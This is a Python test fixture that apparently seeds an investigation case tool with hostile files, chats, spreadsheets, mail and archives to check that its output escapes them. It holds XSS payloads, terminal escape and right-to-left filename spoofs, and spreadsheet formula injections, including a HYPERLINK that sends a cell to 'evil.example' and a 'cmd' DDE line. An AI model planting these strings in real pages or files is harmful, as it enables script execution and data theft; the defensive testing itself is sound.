"""A case into which every text that tries to become code has got, by files of many kinds and by what officers write."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Sequence
from email.message import EmailMessage
from itertools import cycle
from pathlib import Path

from tests.report.payloads import PAYLOADS
from workbench.case.case import Case, open_case
from workbench.identity import Officer

RAN = "window.pwned=1"
MORE = (
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RAN}>", f"<iframe srcdoc='<script>parent.{RAN}</script>'>",
    f"<svg><a xlink:href='javascript:{RAN}'>x</a></svg>", f"<form><button formaction='javascript:{RAN}'>x", f"<script>{RAN}</script>",
    f"<math href='javascript:{RAN}'>x", f"<img src=x onerror={RAN}>", f"</bdi></td></table><img src=x onerror={RAN}>",
    f"</summary><svg onload={RAN}>", f"</option></select><img src=x onerror={RAN}>", f"</pre><script>{RAN}</script>",
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "$\\href{javascript:alert(1)}{x}$",
    "<a href='https://evil.example/'>https://evil.example/</a>", "\x1b]8;;https://evil.example/\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[1;1Hall is well", "\x9b31mred", "\x08\x08\x08gone", "ann\u202efdp.exe", "\u202dabc", "\u2067exe\u2069.pdf",
    "a\u2069b\u202ec", '=HYPERLINK("https://evil.example?x="&A1,"open")', "+cmd|' /C calc'!A0", "＝1+1", "document.title=1", "constructor",
    "__proto__",
)  # fmt: skip
EVERY = tuple(dict.fromkeys([*PAYLOADS, *MORE]))
TEXTS = tuple(text for text in EVERY if text == text.encode("utf-8", "ignore").decode())
"""Those that a file can hold: no half characters."""
LINES = tuple(
    text for text in TEXTS if len(text) < 400 and len(text.splitlines()) == 1 and "|" not in text and "\x00" not in text
)
"""Those that can stand in a line of a chat or a cell."""
SPOOFED = ("ann\u202efdp.exe", "\x1b[2Jall is well", "two\nlines", "\u2067exe\u2069.pdf", "bell\x07")
NAMES = tuple(text for text in LINES if "/" not in text and len(text.encode()) < 200)
"""Those that can be the name of a file; SPOOFED are more of them, which look like something else."""


def write(folder: Path) -> Path:
    """Files whose names, headers, columns, senders, subjects and texts are payloads; returns their folder."""
    place = folder / "hostile"
    place.mkdir()
    for number, name in enumerate(NAMES[::4] + SPOOFED):
        (place / f"{name}.txt").write_text(
            f"Note {number}\n\n{LINES[number]}\n\nCall +44 7700 {900100 + number}\n", "utf-8"
        )
    (place / "chat.txt").write_text(_chat(), "utf-8")
    (place / "people.ftm.json").write_bytes(_people())
    (place / "cells.csv").write_bytes(_cells())
    (place / "mail.mbox").write_bytes(_mail())
    (place / "archive.zip").write_bytes(_archive())
    return place


def filled(folder: Path, officer: str | Officer = LINES[0]) -> Case:
    """An open case with all of it, and with payloads in title, officer, purpose, notes, reasons and judgements."""
    case = open_case(folder / "case", officer=officer, purpose=LINES[1], title=everything(), reason=everything())
    case.add(write(folder))
    passages = list(case.context.passages["passage_id"].head(3))
    for kind in ("note", "question", "hypothesis", "conclusion", "summary"):
        for number in range(0, len(TEXTS), 40):
            case.review.note("\n".join(TEXTS[number : number + 40]), kind=kind, passages=passages)
    names = (" ".join(LINES[:20]), " ".join(LINES[20:40]))
    keys = [
        case.evidence.add("Person", name=name, source="officer's knowledge", because=everything()) for name in names
    ]
    case.judgements.judge(keys, same=True, because=everything())
    case.sources.exclude(folder="archive.zip", because=everything())
    return case


def _chat() -> str:
    head = (
        "Conversations found on device 01 {0} (evidence trace aaaa-1) used by custodian {0} (evidence trace aaaa-1:0-1)\n"
        "WhatsApp conversation about 447700900101@s.whatsapp.net containing 6 messages between 2 participants "
        "(evidence trace aaaa-1:0-2)\n"
    )
    others = cycle(reversed(LINES))
    lines = [
        f"2024-03-01T09:{number // 60:02}:{number % 60:02} | From: {one} | To: {next(others)} | Message: {one}"
        for number, one in enumerate(LINES)
    ]
    return head.format(LINES[2]) + "\n".join(lines) + "\n"


def _people() -> bytes:
    made: list[dict[str, object]] = [
        {"id": f"p{number}", "schema": "Person", "properties": {
            "name": [text], "alias": [text], "notes": [text], "nationality": [text], "sourceUrl": [text], "address": [text],
        }} for number, text in enumerate(TEXTS)
    ]  # fmt: skip
    made += [
        {"id": f"a{number}", "schema": "Address", "properties": {
            "full": [text], "latitude": [str(50 + number / 100)], "longitude": ["4.5"], "remarks": [text],
        }} for number, text in enumerate(TEXTS)
    ]  # fmt: skip
    made += [
        {"id": f"l{number}", "schema": "UnknownLink", "properties": {
            "subject": [f"p{number}"], "object": [f"p{number + 1}"], "role": [text],
        }} for number, text in enumerate(TEXTS[:-1])
    ]  # fmt: skip
    return "\n".join(map(json.dumps, made)).encode()


def _cells() -> bytes:
    quoted = ['"' + text.replace('"', '""') + '"' for text in LINES]
    heads = ["name", "phone", *quoted[:6]]
    rows = [",".join([cell, f"+4477009002{at % 100:02}", *[quoted[-at]] * 6]) for at, cell in enumerate(quoted)]
    return "\n".join([",".join(heads), *rows]).encode()


def _mail() -> bytes:
    out = io.BytesIO()
    for number, text in enumerate(LINES):
        one = EmailMessage()
        plain = "".join(sign for sign in text if sign.isprintable())
        one["Subject"], one["Date"] = plain, "Fri, 01 Mar 2024 09:00:00 +0000"
        one["From"], one["To"] = f'"{_quoted(plain)}" <a{number}@example.com>', f'"{_quoted(plain)}" <b@example.com>'
        one.set_content(text)
        if number % 20 == 0:
            one.add_attachment(text.encode(), maintype="text", subtype="plain", filename=plain)
        out.write(
            b"From a@example.com Fri Mar  1 09:00:00 2024\n" + bytes(one).replace(b"\nFrom ", b"\n>From ") + b"\n"
        )
    return out.getvalue()


def _quoted(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name in NAMES[::25]:
            packed.writestr(f"{name}.txt", name)
    return out.getvalue()


def everything(texts: Sequence[str] = LINES) -> str:
    """All of them in one line."""
    return " ".join(texts)


BUREAU, OFFICER = "<b onclick=alert(1)>NCB", "<img src=x onerror=alert(1)>"


def uploads() -> list[tuple[str, bytes]]:
    """Files as they come through the browser: names, columns and cells are payloads."""
    text = LINES[0].encode()
    return [
        *((f"{name}.txt", text) for name in NAMES[::20] + SPOOFED),
        (f"{NAMES[0]}.csv", _cells()),
        (NAMES[1], _people()[:9000]),
    ]
